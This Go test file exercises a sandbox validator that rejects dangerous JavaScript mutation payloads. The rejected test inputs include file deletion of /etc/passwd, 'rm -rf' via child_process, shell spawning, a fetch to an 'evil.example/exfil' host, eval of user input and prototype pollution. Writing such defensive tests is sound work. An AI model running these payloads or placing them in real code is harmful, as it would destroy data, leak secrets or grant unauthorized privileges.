package sandbox

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/QAntum-Fortres/QAntum-Mind-Engine-Self-Healing-sub000/pkg/contracts"
)

func mut(payload string) contracts.Mutation {
	return contracts.Mutation{TargetID: "moduleA", Payload: []byte(payload)}
}

func TestValidateAllowsBenignCode(t *testing.T) {
	for _, payload := range []string{
		"return 42",
		"const x = items.map(i => i * 2); return x.length;",
		"function add(a, b) { return a + b; }",
	} {
		v := Validate(mut(payload))
		assert.True(t, v.Safe, payload)
		assert.Empty(t, v.Reason)
	}
}

func TestValidateDeniesEachCategory(t *testing.T) {
	cases := map[string]string{
		`require('fs').unlinkSync('/etc/passwd')`:      "filesystem access",
		`fs.writeFile('/tmp/x', data)`:                 "filesystem access",
		`require('child_process').execSync('rm -rf')`:  "process spawn",
		`spawn('sh', ['-c', cmd])`:                     "process spawn",
		`fetch('https://evil.example/exfil')`:          "network access",
		`const s = net.connect(9999)`:                  "network access",
		`eval(userInput)`:                              "dynamic code generation",
		`const f = new Function('return secrets')`:     "dynamic code generation",
		`process.exit(1)`:                              "process termination",
		`obj.__proto__.isAdmin = true`:                 "prototype pollution",
		`Object.prototype.toString = hijack`:           "prototype pollution",
	}
	for payload, category := range cases {
		v := Validate(mut(payload))
		assert.False(t, v.Safe, payload)
		assert.Contains(t, v.Reason, category, payload)
		assert.Contains(t, v.Reason, "forbidden pattern")
	}
}
